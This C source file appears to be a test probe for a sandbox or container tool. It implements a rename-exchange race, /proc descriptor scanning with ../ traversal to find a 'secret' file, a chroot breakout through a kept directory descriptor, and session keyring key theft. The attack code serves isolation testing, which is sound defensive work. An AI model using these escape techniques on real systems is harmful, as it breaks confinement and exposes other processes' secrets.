/*
 * probe: what attacks need and busybox does not have; static, for any root file system.
 *
 *     probe swap A B STOP      exchanges the names, over and over, until there is a file STOP
 *     probe watch STOP PATH    looks through the descriptors and directories of all processes for a
 *                              file "secret", or outside at PATH, over and over, until there is a
 *                              file STOP; prints what is in it
 *     probe climb BELOW PATH  makes BELOW its root, while its working directory is above, goes up
 *                             as far as it can, and prints what is in the file PATH there
 *     probe key NAME           adds the key to the session's keyring
 *     probe steal NAME         prints the key that whoever started this process has of that name
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define SECONDS_MAX 120
#define STEPS_UP 64

static int swap(const char *a, const char *b, const char *stop)
{
    time_t end = time(NULL) + SECONDS_MAX;

    while (access(stop, F_OK) < 0 && time(NULL) <= end) {
        for (int i = 0; i < 1000; i++)
            (void)renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
    }
    return 0;
}

/* Prints what is in the file; false: it cannot be read. */
static bool print_secret(int directory, const char *path)
{
    char secret[64];
    int fd = openat(directory, path, O_RDONLY | O_CLOEXEC);
    ssize_t size = fd < 0 ? -1 : read(fd, secret, sizeof(secret));

    if (fd >= 0)
        (void)close(fd);
    if (size > 0)
        (void)fwrite(secret, 1, (size_t)size, stdout);
    return size > 0;
}

/* Whether one of the descriptors leads to the secret. */
static bool look_at(int directory, const char *number, const char *outside)
{
    char path[5000];

    (void)snprintf(path, sizeof(path), "%s/secret", number);
    if (print_secret(directory, path))
        return true;
    (void)snprintf(path, sizeof(path), "%s/../../../../../../../..%s", number, outside);
    return print_secret(directory, path);
}

static bool look_through(const char *pid, const char *outside)
{
    static const char *const places[] = { "cwd", "root" };
    char path[300];
    bool is_found = false;
    DIR *directory;
    const struct dirent *entry;

    for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
        (void)snprintf(path, sizeof(path), "/proc/%s/%s/secret", pid, places[i]);
        if (print_secret(AT_FDCWD, path))
            return true;
    }
    (void)snprintf(path, sizeof(path), "/proc/%s/fd", pid);
    directory = opendir(path);
    while (directory != NULL && !is_found && (entry = readdir(directory)) != NULL)
        is_found = entry->d_name[0] != '.' && look_at(dirfd(directory), entry->d_name, outside);
    if (directory != NULL)
        (void)closedir(directory);
    return is_found;
}

/* Not at process 1, which this is. */
static bool look_through_all(DIR *processes, const char *outside)
{
    const struct dirent *entry;
    bool is_found = false;

    rewinddir(processes);
    while (!is_found && (entry = readdir(processes)) != NULL) {
        bool is_process = entry->d_name[0] >= '1' && entry->d_name[0] <= '9';

        is_found =
            is_process && strcmp(entry->d_name, "1") != 0 && look_through(entry->d_name, outside);
    }
    return is_found;
}

static int watch(const char *stop, const char *outside)
{
    time_t end = time(NULL) + SECONDS_MAX;
    DIR *processes = opendir("/proc");
    bool is_found = false;

    (void)puts("watches");
    (void)fflush(stdout);
    while (processes != NULL && access(stop, F_OK) < 0 && time(NULL) <= end) {
        is_found = is_found || look_through_all(processes, outside);
        (void)fflush(stdout);
    }
    return 0;
}

static int climb(const char *below, const char *path)
{
    int above = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

    if (above < 0 || (mkdir(below, 0755) < 0 && errno != EEXIST) || chroot(below) < 0 ||
        fchdir(above) < 0) {
        perror(below);
        return 1;
    }
    for (int i = 0; i < STEPS_UP; i++) {
        if (chdir("..") < 0)
            perror("..");
    }
    if (!print_secret(AT_FDCWD, path + 1))
        (void)printf("nothing\n");
    return 0;
}

static int add_key(const char *name)
{
    const char secret[] = "the secret";
    long ring = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);

    if (ring < 0 || syscall(SYS_add_key, "user", name, secret, sizeof(secret) - 1,
                            KEY_SPEC_SESSION_KEYRING) < 0) {
        perror("add_key");
        return 1;
    }
    return 0;
}

static int steal_key(const char *name)
{
    char secret[64] = "";
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0);
    long size = key < 0 ? -1 : syscall(SYS_keyctl, KEYCTL_READ, key, secret, sizeof(secret) - 1);

    (void)printf("%s\n", size < 0 ? strerror(errno) : secret);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 5 && strcmp(argv[1], "swap") == 0)
        return swap(argv[2], argv[3], argv[4]);
    if (argc == 4 && strcmp(argv[1], "watch") == 0)
        return watch(argv[2], argv[3]);
    if (argc == 4 && strcmp(argv[1], "climb") == 0)
        return climb(argv[2], argv[3]);
    if (argc >= 4 && strcmp(argv[1], "key") == 0) {
        int status = add_key(argv[2]);

        if (status == 0)
            (void)execvp(argv[3], argv + 3);
        return 1;
    }
    if (argc == 3 && strcmp(argv[1], "steal") == 0)
        return steal_key(argv[2]);
    return 2;
}
